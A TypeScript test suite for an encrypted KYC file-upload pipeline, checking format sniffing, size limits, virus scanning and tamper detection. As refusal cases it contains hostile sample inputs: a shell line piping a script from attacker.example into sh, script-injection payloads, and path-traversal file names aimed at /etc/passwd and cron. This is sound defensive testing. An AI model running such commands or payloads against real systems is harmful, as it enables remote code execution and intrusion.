import crypto from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { eq, ne, sql } from "drizzle-orm";
import sharp from "sharp";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { contactSubmissions, inquiryEvents, uploads } from "~db/schema";
import { uploadLimits } from "~/content/uploads";
import { uploadPath, uploadsDir } from "~/lib/uploads/upload-files.server";
import {
  openCleanUpload,
  receiveUpload,
  scanPendingUploads,
  type UploadSettings,
} from "~/lib/uploads/uploads.server";
import { type Clamd, EICAR_PDF, startClamd } from "../../../tests/support/clamd";
import { insertInquiry } from "../../../tests/support/desk-fixtures";
import { useTestDatabase } from "../../../tests/support/suite-database";
import { testBackends } from "../../../tests/support/test-database";

const MARKER = "PASSPORT-NUMBER-GB-123456789";
const PDF = Buffer.from(`%PDF-1.7\n1 0 obj << /Title (${MARKER}) >> endobj\n%%EOF\n`);
const KYC_FORMATS = ["pdf", "jpeg", "png", "heic"] as const;

async function* chunks(...parts: Buffer[]): AsyncGenerator<Buffer> {
  for (const part of parts) yield part;
}

/** `total` bytes in 64 KB chunks made as they are read, starting with `head`: never whole in memory. */
async function* generated(head: Buffer, total: number): AsyncGenerator<Buffer> {
  yield head;
  const block = Buffer.alloc(64 * 1024, 0x41);
  for (let sent = head.length; sent < total; sent += block.length) yield block.subarray(0, total - sent);
}

async function collect(source: AsyncIterable<Buffer>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const part of source) parts.push(part);
  return Buffer.concat(parts);
}

function filesUnder(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => path.join(entry.parentPath, entry.name));
}

let clamd: Clamd;
beforeAll(async () => {
  clamd = await startClamd();
});
afterAll(async () => {
  await clamd.dispose();
});

const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "uploads-"));
afterAll(() => fs.rmSync(dataDir, { recursive: true, force: true }));
const settings = (): UploadSettings => ({
  dataDir,
  key: crypto.randomBytes(32),
  clamdAddress: clamd.address,
});

describe.each(testBackends)("the upload pipeline on %s", (backend) => {
  const database = useTestDatabase(backend, [uploads, inquiryEvents, contactSubmissions]);
  let inquiryId: string;
  beforeEach(async () => {
    fs.rmSync(uploadsDir(dataDir), { recursive: true, force: true });
    inquiryId = await insertInquiry(database.db);
  });

  const receive = (config: UploadSettings, fileName: string, content: AsyncIterable<Buffer>) =>
    receiveUpload(database.db, config, {
      inquiryId,
      purpose: "kyc",
      fileName,
      formats: KYC_FORMATS,
      content,
    });

  it("stores a PDF encrypted, 0600 in 0700 directories, scans it clean and gives the same bytes back", async () => {
    const config = settings();
    const result = await receive(config, "passport.pdf", chunks(PDF));
    expect(result).toMatchObject({ received: true, scan: "clean" });
    if (!result.received) return;
    const file = uploadPath(dataDir, { inquiryId, uploadId: result.uploadId });
    const stored = fs.readFileSync(file);
    expect(stored.includes(MARKER)).toBe(false);
    expect(stored.includes(PDF.subarray(0, 8))).toBe(false);
    expect(fs.statSync(file).mode & 0o777).toBe(0o600);
    expect(fs.statSync(path.dirname(file)).mode & 0o777).toBe(0o700);
    expect(fs.statSync(uploadsDir(dataDir)).mode & 0o777).toBe(0o700);
    const opened = await openCleanUpload(database.db, config, { inquiryId, uploadId: result.uploadId });
    expect(await collect(opened!.content)).toEqual(PDF);
    const [row] = await database.db.select().from(uploads).where(eq(uploads.id, result.uploadId));
    expect(row).toMatchObject({
      format: "pdf",
      byte_size: PDF.length,
      scan: "clean",
      file_name: "passport.pdf",
    });
  });

  it("accepts JPEG, PNG and HEIC photos by their bytes", async () => {
    const jpeg = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#c90" } })
      .jpeg()
      .toBuffer();
    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#09c" } })
      .png()
      .toBuffer();
    const heic = Buffer.concat([
      Buffer.from("00000018667479706865696300000000", "hex"),
      Buffer.from("mif1heic"),
      Buffer.alloc(64),
    ]);
    for (const [name, bytes] of [
      ["a.jpg", jpeg],
      ["b.png", png],
      ["c.heic", heic],
    ] as const) {
      expect(await receive(settings(), name, chunks(bytes))).toMatchObject({ received: true });
    }
    const formats = await database.db.select({ format: uploads.format }).from(uploads);
    expect(formats.map(({ format }) => format).sort()).toEqual(["heic", "jpeg", "png"]);
  });

  it("an HTML, SVG or script file named .pdf is refused and nothing is stored", async () => {
    const hostile = [
      `<!doctype html><html><body><script>fetch("/dashboard")</script></body></html>`,
      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`,
      `#!/bin/sh\ncurl http://attacker.example | sh\n`,
      `<script>alert(document.cookie)</script>%PDF-1.4`,
    ];
    for (const text of hostile) {
      expect(await receive(settings(), "statement.pdf", chunks(Buffer.from(text)))).toEqual({
        received: false,
        problem: "format",
      });
    }
    expect(await database.db.select().from(uploads)).toEqual([]);
    expect(filesUnder(uploadsDir(dataDir))).toEqual([]);
  });

  it("traversal in a file name has no effect: the file lands under its uuid, the name is shown without a path", async () => {
    const names = [
      "../../../etc/passwd.pdf",
      "..\\..\\boot.ini.pdf",
      "/etc/cron.d/x.pdf",
      "a\u0000b\u202e.pdf",
    ];
    for (const name of names)
      expect(await receive(settings(), name, chunks(PDF))).toMatchObject({ received: true });
    const files = filesUnder(dataDir).filter((file) => !file.includes(".write-check"));
    expect(files).toHaveLength(names.length);
    for (const file of files) {
      expect(path.relative(path.join(uploadsDir(dataDir), inquiryId), file)).toMatch(/^[0-9a-f-]{36}$/);
    }
    const shown = await database.db.select({ name: uploads.file_name }).from(uploads);
    expect(shown.map(({ name }) => name).sort()).toEqual(["ab.pdf", "boot.ini.pdf", "passwd.pdf", "x.pdf"]);
  });

  it("an upload far over the limit is cut off at the limit and nothing is kept, with memory flat", async () => {
    const before = process.memoryUsage().rss;
    const total = uploadLimits.maxFileBytes * 10;
    const result = await receive(settings(), "huge.pdf", generated(PDF, total));
    const grown = process.memoryUsage().rss - before;
    console.log(`${total / 1024 / 1024} MB upload refused; RSS grew ${(grown / 1024 / 1024).toFixed(1)} MB`);
    expect(result).toEqual({ received: false, problem: "too-large" });
    // Flat: a fraction of the 200 MB sent; the garbage collector's timing makes the exact figure vary.
    expect(grown).toBeLessThan(total / 4);
    expect(filesUnder(uploadsDir(dataDir))).toEqual([]);
    expect(await database.db.select().from(uploads)).toEqual([]);
  });

  it("a file at the limit is kept; the inquiry's own limit refuses what would pass it", async () => {
    const config = settings();
    expect(await receive(config, "max.pdf", generated(PDF, uploadLimits.maxFileBytes))).toMatchObject({
      received: true,
    });
    await database.db.update(uploads).set({ byte_size: uploadLimits.maxInquiryBytes - 10 });
    expect(await receive(config, "more.pdf", chunks(PDF))).toEqual({
      received: false,
      problem: "inquiry-full",
    });
  });

  it("two uploads at the same moment never take an inquiry past its byte limit", async () => {
    const config = settings();
    const size = 80 * 1024;
    // Room for one of the two files, not for both.
    await database.db.insert(uploads).values({
      inquiry_id: inquiryId,
      purpose: "kyc",
      file_name: "earlier.pdf",
      format: "pdf",
      byte_size: uploadLimits.maxInquiryBytes - Math.round(size * 1.5),
      scan: "clean",
    });
    /** Holds its last chunk until both uploads have read their first ones, so both streams overlap. */
    let started = 0;
    let release!: () => void;
    const bothStarted = new Promise<void>((resolve) => (release = resolve));
    async function* overlapping(): AsyncGenerator<Buffer> {
      yield PDF;
      started += 1;
      if (started === 2) release();
      await bothStarted;
      yield Buffer.alloc(size - PDF.length, 0x41);
    }
    const results = await Promise.all([
      receive(config, "first.pdf", overlapping()),
      receive(config, "second.pdf", overlapping()),
    ]);
    expect(results.filter((result) => result.received)).toHaveLength(1);
    expect(results.filter((result) => !result.received)).toEqual([
      { received: false, problem: "inquiry-full" },
    ]);
    const [used] = await database.db
      .select({ bytes: sql<number>`sum(${uploads.byte_size})::int` })
      .from(uploads)
      .where(ne(uploads.scan, "infected"));
    expect(used!.bytes).toBeLessThanOrEqual(uploadLimits.maxInquiryBytes);
    expect(filesUnder(path.join(uploadsDir(dataDir), inquiryId))).toHaveLength(1);
  });

  it("an infected file is refused, deleted, and the desk sees the refusal on the timeline", async () => {
    const result = await receive(settings(), "proof-of-funds.pdf", chunks(EICAR_PDF));
    expect(result).toEqual({ received: false, problem: "infected" });
    expect(filesUnder(uploadsDir(dataDir))).toEqual([]);
    const [row] = await database.db.select().from(uploads);
    expect(row).toMatchObject({ scan: "infected", scan_signature: "Local.Eicar-Test-File.UNOFFICIAL" });
    const events = await database.db
      .select()
      .from(inquiryEvents)
      .where(eq(inquiryEvents.inquiry_id, inquiryId));
    expect(events.map(({ kind }) => kind)).toEqual(["upload-received", "upload-refused"]);
  });

  it("while the scanner is down a file waits unscanned and is never served; the job scans it when clamd is back", async () => {
    const config = settings();
    await clamd.stop();
    let result;
    try {
      result = await receive(config, "passport.pdf", chunks(PDF));
      expect(result).toMatchObject({ received: true, scan: "pending" });
      if (!result.received) return;
      expect(await openCleanUpload(database.db, config, { inquiryId, uploadId: result.uploadId })).toBeNull();
      expect(await scanPendingUploads(database.db, config)).toBe(1);
    } finally {
      await clamd.start();
    }
    expect(await scanPendingUploads(database.db, config)).toBe(0);
    expect(
      await openCleanUpload(database.db, config, { inquiryId, uploadId: result.uploadId }),
    ).not.toBeNull();
  });

  it("uploads that cannot be scanned never hold back the one after them", async () => {
    const config = settings();
    // More than a pass once took: rows whose files are gone, older than the upload that waits for clamd.
    const hourAgo = new Date(Date.now() - 3_600_000);
    await database.db.insert(uploads).values(
      Array.from({ length: 60 }, (_, n) => ({
        inquiry_id: inquiryId,
        purpose: "kyc",
        file_name: `lost-${n}.pdf`,
        format: "pdf",
        byte_size: PDF.length,
        created_at: hourAgo,
      })),
    );
    const result = await receive({ ...config, clamdAddress: "127.0.0.1:1" }, "passport.pdf", chunks(PDF));
    if (!result.received) throw new Error("not received");
    expect(result.scan).toBe("pending");

    expect(await scanPendingUploads(database.db, config)).toBe(0);
    expect(
      await openCleanUpload(database.db, config, { inquiryId, uploadId: result.uploadId }),
    ).not.toBeNull();
  });

  it("an upload opens only under its own inquiry, and not with another key", async () => {
    const config = settings();
    const result = await receive(config, "passport.pdf", chunks(PDF));
    if (!result.received) throw new Error("not received");
    const other = await insertInquiry(database.db, { email: "other@example.test" });
    expect(
      await openCleanUpload(database.db, config, { inquiryId: other, uploadId: result.uploadId }),
    ).toBeNull();
    const wrongKey = await openCleanUpload(
      database.db,
      { ...config, key: crypto.randomBytes(32) },
      { inquiryId, uploadId: result.uploadId },
    );
    await expect(collect(wrongKey!.content)).rejects.toThrow();
  });

  it("a file changed on disk gives out no byte: the whole file is proved before the first is sent", async () => {
    const config = settings();
    const result = await receive(config, "statement.pdf", generated(PDF, 300_000));
    if (!result.received) throw new Error("not received");
    const file = uploadPath(dataDir, { inquiryId, uploadId: result.uploadId });
    const stored = fs.readFileSync(file);
    stored[stored.length - 1000]! ^= 0xff;
    fs.writeFileSync(file, stored);
    const opened = await openCleanUpload(database.db, config, { inquiryId, uploadId: result.uploadId });
    let given = 0;
    await expect(
      (async () => {
        for await (const chunk of opened!.content) given += chunk.length;
      })(),
    ).rejects.toThrow();
    expect(given).toBe(0);
  });
});
